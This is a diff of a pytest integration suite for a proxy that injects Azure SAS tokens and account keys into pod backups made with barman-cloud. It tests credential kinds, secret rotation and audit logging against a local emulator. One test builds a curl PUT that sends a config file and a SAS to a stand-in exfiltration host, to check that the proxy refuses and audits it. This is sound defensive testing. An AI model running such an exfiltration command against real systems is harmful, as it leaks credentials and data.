@@ -171,15 +171,38 @@ class Scenario:
         tmp.write_text(text)
         tmp.replace(self.policy)
 
-    def write_secret(self, path: Path, value: str) -> None:
-        """Replace a secret file by rename, as an editor or a secret manager does."""
-        tmp = path.with_name(path.name + ".new")
+    def write_key(self, value: str) -> None:
+        """Replace the account key file by rename, as an editor or a secret manager does."""
+        tmp = self.key_file.with_name(self.key_file.name + ".new")
         tmp.write_text(value)
         tmp.chmod(0o600)
-        tmp.replace(path)
+        tmp.replace(self.key_file)
+
+    def write_sas(self, value: str) -> None:
+        """Update the SAS the way the kubelet updates a mounted Secret: a new
+        timestamped folder, then one rename of the ``..data`` symlink to it
+        (``sas`` itself is a symlink to ``..data/sas``)."""
+        folder = self.sas_file.parent
+        new = folder / f"..{time.monotonic_ns()}"
+        new.mkdir(mode=0o700)
+        (new / "sas").write_text(value)
+        data = folder / "..data"
+        old = data.resolve() if data.is_symlink() else None
+        tmp = folder / "..data_tmp"
+        tmp.symlink_to(new.name)
+        tmp.replace(data)
+        if not self.sas_file.is_symlink():
+            self.sas_file.symlink_to("..data/sas")
+        if old is not None:
+            shutil.rmtree(old)
 
     def azure_requests_since(self, mark: int) -> list[Any]:
         return self.azurite.requests()[mark:]
+
+    def use_baseline(self) -> None:
+        """Today's allow rule, and the pod holding the real SAS for ``pg-main``."""
+        self.set_policy(baseline_policy())
+        self.backups.configure(_pod_config(self, "pg-main", sas_token=account_sas(self.account)))
 
     @property
     def node_towards_azure(self) -> str:
@@ -194,8 +217,6 @@ def _copy_for_pods(src: Path, dst: Path) -> Path:
 
 @pytest.fixture(scope="module")
 def s(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scenario]:
-    if os.geteuid() != 0:
-        pytest.skip("needs root")
     work = tmp_path_factory.mktemp("backups")
     timings: dict[str, float] = {}
     with pod_root() as pods, Lab() as lab:
@@ -218,8 +239,8 @@ def s(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scenario]:
         timings["azurite start"] = time.monotonic() - started
 
         secrets_dir = work / "secrets"
-        secrets_dir.mkdir(mode=0o700)
-        sas_file, key_file = secrets_dir / "sas", secrets_dir / "key"
+        (secrets_dir / "azure-sas").mkdir(mode=0o700, parents=True)
+        sas_file, key_file = secrets_dir / "azure-sas" / "sas", secrets_dir / "key"
         policy = work / "policy.yaml"
         policy.write_text(baseline_policy())
         audit = work / "audit.jsonl"
@@ -309,7 +330,7 @@ def _backup(s: Scenario) -> str:
     s.backups.run(
         "backup",
         options=["--host", str(s.primary.socket_dir), "--port", str(s.primary.port),
-                 "--user", "postgres"],
+                 "--user", "postgres", "--immediate-checkpoint"],
     )  # fmt: skip
     listing = s.backups.run("backup-list", options=["--format", "json"]).stdout
     backups = json.loads(listing)["backups_list"]
@@ -335,12 +356,13 @@ class BaselineBackup:
 @pytest.fixture(scope="module")
 def baseline_backup(s: Scenario) -> BaselineBackup:
     """The primary backs up with the real credential in the pod, through the proxy."""
-    s.set_policy(baseline_policy())
-    s.backups.configure(_pod_config(s, "pg-main", sas_token=account_sas(s.account)))
+    s.use_baseline()
     audit_from, azure_from = len(s.audit_records()), len(s.azurite.requests())
     started = time.monotonic()
-    s.primary.psql("CREATE TABLE orders (id int PRIMARY KEY, item text); "
-                   "INSERT INTO orders SELECT i, 'item ' || i FROM generate_series(1, 5000) i")  # fmt: skip
+    s.primary.psql(
+        "CREATE TABLE orders (id int PRIMARY KEY, item text); "
+        "INSERT INTO orders SELECT i, 'item ' || i FROM generate_series(1, 5000) i"
+    )
     backup_id = _backup(s)
     s.timings["baseline backup"] = time.monotonic() - started
     return BaselineBackup(backup_id=backup_id, audit_from=audit_from, azure_from=azure_from,
@@ -374,6 +396,7 @@ def test_restore_from_the_backup_starts_postgres(
 ) -> None:
     """barman-cloud-restore fetches the base backup (through the proxy) and
     PostgreSQL recovers from it, fetching WAL with barman-cloud-wal-restore."""
+    s.use_baseline()
     target = postgres_dir(s.pods / "pg-primary" / "restored")
     s.backups.run("restore", extra=[baseline_backup.backup_id, str(target)])
     assert (target / "PG_VERSION").read_text().strip() == "15"
@@ -475,7 +498,7 @@ def test_registry_talks_to_azure_directly_with_its_own_credential(s: Scenario) -
 def test_another_storage_account_is_refused_and_audited(s: Scenario) -> None:
     """A pod that tries to upload somewhere else (curl, as an intruder would) is
     reset by the proxy; the audit log says which pod, where and by which rule."""
-    s.set_policy(baseline_policy())
+    s.use_baseline()
     audit_from, azure_from = len(s.audit_records()), len(s.azurite.requests())
     url = f"https://{EXFIL}/stolen/pg_hba.conf?{account_sas(s.account)}"
     curl = ["curl", "-sS", "--max-time", "10", "--cacert", str(s.pod_azure_ca), "-X", "PUT",
@@ -498,6 +521,29 @@ def test_another_storage_account_is_refused_and_audited(s: Scenario) -> None:
 DUMMY_SAS = "sv=2021-08-06&ss=b&srt=sco&sp=rwdlac&se=2099-01-01T00:00:00Z&spr=https&sig=placeholder"
 
 
+@pytest.mark.parametrize("credential", ["sas", "key", "connection-string"])
+def test_each_kind_of_pod_credential_works_through_the_proxy(
+    s: Scenario, credential: str
+) -> None:
+    """The pod configurations of the injection tests below, with the real
+    credential: whatever fails there is the proxy's doing, not barman's set-up."""
+    s.use_baseline()
+    kinds = {
+        "sas": {"sas_token": account_sas(s.account)},
+        "key": {"account_key": s.account.key1},
+        "connection-string": {"connection_string": (
+            f"DefaultEndpointsProtocol=https;AccountName={s.account.name};"
+            f"AccountKey={s.account.key1};BlobEndpoint=https://{BLOB}/")},
+    }  # fmt: skip
+    s.backups.configure(_pod_config(s, "pg-main", **kinds[credential]))
+    audit_from = len(s.audit_records())
+    listing = json.loads(s.backups.run("backup-list", options=["--format", "json"]).stdout)
+    assert isinstance(listing["backups_list"], list), listing
+    rules = [r["rule"] for r in _divert_records(s, audit_from)]
+    assert rules and set(rules) == {"azure-backups"}, rules
+    s.use_baseline()
+
+
 def _dummy_key() -> str:
     return base64.b64encode(secrets.token_bytes(64)).decode()
 
@@ -511,7 +557,7 @@ def _injected_round(s: Scenario, server: str, *, port: int, rule: str) -> None:
     s.backups.run(
         "backup",
         options=["--host", str(s.primary.socket_dir), "--port", str(s.primary.port),
-                 "--user", "postgres"],
+                 "--user", "postgres", "--immediate-checkpoint"],
     )  # fmt: skip
     listing = json.loads(s.backups.run("backup-list", options=["--format", "json"]).stdout)
     assert len(listing["backups_list"]) == 1, listing
@@ -520,12 +566,12 @@ def _injected_round(s: Scenario, server: str, *, port: int, rule: str) -> None:
     assert all(r["dst"] == f"{AZURE}:{port}" for r in records), records
     seen = s.azure_requests_since(azure_from)
     assert seen and {r.client_ip for r in seen} == {s.node_towards_azure}, seen
-    assert all(r.status < 400 or r.method in {"HEAD", "GET"} for r in seen), seen
+    assert not [r for r in seen if r.status in (401, 403)], seen
 
 
 def _use_sas_injection(s: Scenario) -> None:
-    s.write_secret(s.sas_file, account_sas(s.account))
-    s.write_secret(s.key_file, s.account.key1)
+    s.write_sas(account_sas(s.account))
+    s.write_key(s.account.key1)
     s.set_policy(injection_policy(s, auth_443=f"{{azure_sas: {{file: {s.sas_file}}}}}"))
 
 
@@ -539,7 +585,7 @@ def test_sas_injected_by_the_proxy(s: Scenario) -> None:
 
 @NEEDS_HTTP_RULES
 def test_shared_key_signed_by_the_proxy(s: Scenario) -> None:
-    s.write_secret(s.key_file, s.account.key1)
+    s.write_key(s.account.key1)
     s.set_policy(
         injection_policy(
             s,
@@ -566,35 +612,32 @@ def test_plain_http_from_the_pod_leaves_as_tls(s: Scenario) -> None:
 
 @NEEDS_HTTP_RULES
 def test_rotated_secrets_are_used_without_restart(s: Scenario) -> None:
+    """Azure accepts two keys per account; rotation goes key1 -> (a bad one,
+    which proves the file is re-read) -> key2, with the agent running."""
     _use_sas_injection(s)
     s.backups.configure(_pod_config(s, "pg-sas", ca_file=s.pod_proxy_ca, sas_token=DUMMY_SAS))
+    azure_from = len(s.azurite.requests())
 
     def works() -> bool:
         return s.backups.run("backup-list", check=False).returncode == 0
 
     assert works()
-    # Rename-over with a SAS signed by a key Azure does not know: refused ...
-    s.write_secret(s.sas_file, account_sas(s.account, key=_dummy_key()))
-    wait_for(lambda: not works(), "the proxy to use the rewritten (bad) SAS", timeout=15)
-    # ... then a Kubernetes-style symlink swap to a SAS signed with key2: accepted.
-    data = s.sas_file.parent / "..2026_rotated"
-    data.mkdir(mode=0o700)
-    (data / "sas").write_text(account_sas(s.account, key=s.account.key2))
-    link = s.sas_file.parent / "sas.link"
-    link.symlink_to(data / "sas")
-    link.replace(s.sas_file)
-    wait_for(works, "the proxy to use the rotated SAS", timeout=15)
-    statuses = [r.status for r in s.azurite.requests()]
-    assert 403 in statuses, statuses
+    # The SAS, as a Kubernetes Secret volume updates it (..data symlink swap).
+    s.write_sas(account_sas(s.account, key=_dummy_key()))
+    wait_for(lambda: not works(), "the proxy to use the new (bad) SAS", timeout=15)
+    s.write_sas(account_sas(s.account, key=s.account.key2))
+    wait_for(works, "the proxy to use the SAS signed with key2", timeout=15)
+    assert 403 in [r.status for r in s.azure_requests_since(azure_from)]
 
-    # The account key for plain HTTP rotates the same way: key1 -> wrong -> key2.
+    # The account key for plain HTTP, replaced by rename.
     conn = (f"DefaultEndpointsProtocol=http;AccountName={s.account.name};"
             f"AccountKey={_dummy_key()};BlobEndpoint=http://{BLOB}/")  # fmt: skip
     s.backups.configure(_pod_config(s, "pg-http", ca_file=None, connection_string=conn))
-    s.write_secret(s.key_file, _dummy_key())
-    wait_for(lambda: not works(), "the proxy to use the rewritten (bad) key", timeout=15)
-    s.write_secret(s.key_file, s.account.key2)
-    wait_for(works, "the proxy to use the rotated key", timeout=15)
+    assert works()
+    s.write_key(_dummy_key())
+    wait_for(lambda: not works(), "the proxy to use the new (bad) key", timeout=15)
+    s.write_key(s.account.key2)
+    wait_for(works, "the proxy to use key2", timeout=15)
 
 
 @NEEDS_HTTP_RULES
@@ -631,8 +674,6 @@ def test_a_pod_holding_no_credential_cannot_back_up_today(s: Scenario) -> None:
     the injection tests above cannot pass by accident."""
     s.set_policy(baseline_policy())
     s.backups.configure(_pod_config(s, "pg-dummy", sas_token=DUMMY_SAS))
-    try:
-        proc = s.backups.run("backup-list", check=False, timeout=60)
-    finally:
-        s.backups.configure(_pod_config(s, "pg-main", sas_token=account_sas(s.account)))
+    proc = s.backups.run("backup-list", check=False, timeout=60)
     assert proc.returncode != 0
+    assert "AuthorizationFailure" in proc.stderr, proc.stderr[-2000:]
